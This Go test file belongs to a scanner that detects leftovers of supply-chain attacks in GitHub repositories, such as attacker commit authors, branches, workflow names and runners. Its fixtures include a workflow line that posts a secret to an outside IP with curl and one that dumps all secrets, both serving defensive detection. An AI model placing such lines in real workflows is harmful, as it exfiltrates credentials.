package leftovers

import (
	"net/url"
	"path"
	"strings"
	"testing"
	"time"

	"github.com/leakreach/leakreach/audit"
	"github.com/leakreach/leakreach/audit/audittest"
)

func scanner(t testing.TB) *Scanner {
	t.Helper()
	s, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func commit(author, ref, message string) audit.Item {
	return audit.Item{Kind: audit.KindCommit, At: audit.Location{Kind: audit.InCommit, Ref: ref}, Content: []byte(
		"tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\nauthor " + author + " 1790000000 +0000\ncommitter Jane <jane@example.com> 1790000000 +0000\n\n" + message + "\n")}
}

func workflow(name, content string) audit.Item {
	return audit.Item{Kind: audit.KindPlace, At: audit.Location{Kind: audit.InCommit, Path: ".github/workflows/" + name, Commit: "1"}, Content: []byte(content)}
}

func entry(kind audit.ItemKind, name, scope string) audit.Item {
	return audit.Item{Kind: kind, Entry: &audit.Entry{Kind: kind, Name: name, Scope: scope}, Content: []byte("{}")}
}

const jane = "Jane <jane@example.com>"

var samples = []struct {
	name string
	item audit.Item
	want string // "" for nothing
}{
	{"an author", commit("nord-stream <nord-stream@localhost.com>", "", "Test deployment"), "commit by nord-stream <nord-stream@localhost.com>: nord-stream"},
	{"an author who is only called so", commit("nord-stream <jane@example.com>", "", "Test deployment"), ""},
	{"a branch", commit(jane, "refs/heads/dev_remote_ea5Eu/test/v1", "Add it"), "branch dev_remote_ea5Eu/test/v1: nord-stream"},
	{"a branch about the worm", commit(jane, "refs/heads/shai-hulud-detection", "Find shai-hulud"), ""},
	{"a message", commit(jane, "", "LongLiveTheResistanceAgainstMachines:what was stolen"), "commit whose message begins with LongLiveTheResistanceAgainstMachines: TeamPCP"},
	{"a message about it", commit(jane, "", "Look for LongLiveTheResistanceAgainstMachines"), ""},
	{"a word that begins like it", commit(jane, "", "firedalazers"), ""},
	{"an author in a message", commit(jane, "", "It was\nauthor nord-stream <nord-stream@localhost.com> 1"), ""},
	{"a workflow", workflow("shai-hulud-workflow.yml", "on: push\n"), "workflow shai-hulud-workflow.yml: Shai-Hulud"},
	{"a workflow of a name that others use", workflow("github_actions_security.yml", "jobs:\n  send-secrets:\n"), "workflow github_actions_security.yml: GhostAction"},
	{"others' workflow of that name", workflow("github_actions_security.yml", "jobs:\n  bandit:\n"), ""},
	{"a workflow with a number", workflow("formatter_123456789.yml", "run: echo ${{ toJSON(secrets) }}\n"), "workflow formatter_123456789.yml: Sha1-Hulud: The Second Coming"},
	{"discussions", workflow("discussion.yaml", "runs-on: ubuntu-24.04\nrun: echo ${{ github.event.discussion.body }}\n"), ""},
	{"an address", workflow("ci.yml", "run: curl -d \"$T\" http://193.32.204.199/\n"), "workflow with 193.32.204.199: GhostAction"},
	{"an address in a file of another kind", audit.Item{Kind: audit.KindFile, At: audit.Location{Path: "iocs.yml"}, Content: []byte("193.32.204.199\n")}, ""},
	{"a runner", entry(audit.KindRunner, "SHA1HULUD", "organisation"), "runner SHA1HULUD: Sha1-Hulud: The Second Coming"},
	{"a runner of one's own", entry(audit.KindRunner, "sha1-builder", "organisation"), ""},
	{"a repository", entry(audit.KindSettings, "acme/tpcp-docs-7", "repository"), "repository tpcp-docs-7: TeamPCP"},
	{"a scanner's repository", entry(audit.KindSettings, "acme/Shai-Hulud-Detect", "repository"), ""},
	{"an organisation of that name", entry(audit.KindSettings, "Shai-Hulud", "organisation"), ""},
}

func TestAttackLeftover(t *testing.T) {
	s := scanner(t)
	for _, x := range samples {
		t.Run(x.name, func(t *testing.T) {
			var found []audit.Finding
			if s.Wants(x.item) {
				found, _ = s.Scan(x.item, x.item.Content)
			}
			switch {
			case x.want == "" && len(found) == 0:
			case len(found) != 1 || x.want == "" || !strings.HasPrefix(found[0].Message, x.want+" leaves it (https://"):
				t.Errorf("%+v, want %q", found, x.want)
			case strings.Contains(found[0].Message, "what was stolen"):
				t.Errorf("%q shows what follows the marker", found[0].Message)
			}
		})
	}
}

func TestScanner(t *testing.T) {
	var items []audittest.Sample
	for _, x := range samples {
		items = append(items, audittest.Sample{Item: x.item, Content: x.item.Content})
	}
	audittest.Scanner(t, scanner(t), items)
	if s, err := New([]string{"another-rule"}); err != nil || len(s.Rules()) > 0 || s.Wants(samples[0].item) {
		t.Errorf("it looks for what it was not asked for: %v", err)
	}
}

// Each record says where it is from, and has patterns that mean something.
func TestRecords(t *testing.T) {
	for _, k := range scanner(t).tools {
		if u, err := url.Parse(k.Source); err != nil || u.Scheme != "https" {
			t.Errorf("%s has no source", k.Tool)
		}
		if _, err := time.Parse(time.DateOnly, k.Read); err != nil {
			t.Errorf("%s: %v", k.Tool, err)
		}
		patterns := k.Repositories
		for _, f := range k.Workflows {
			patterns = append(patterns, f.Path)
			if f.Path == "*" && len(f.Contains) == 0 {
				t.Errorf("%s has every workflow", k.Tool)
			}
		}
		for _, p := range patterns {
			if _, err := path.Match(p, ""); err != nil {
				t.Errorf("%s: %q: %v", k.Tool, p, err)
			}
		}
	}
}
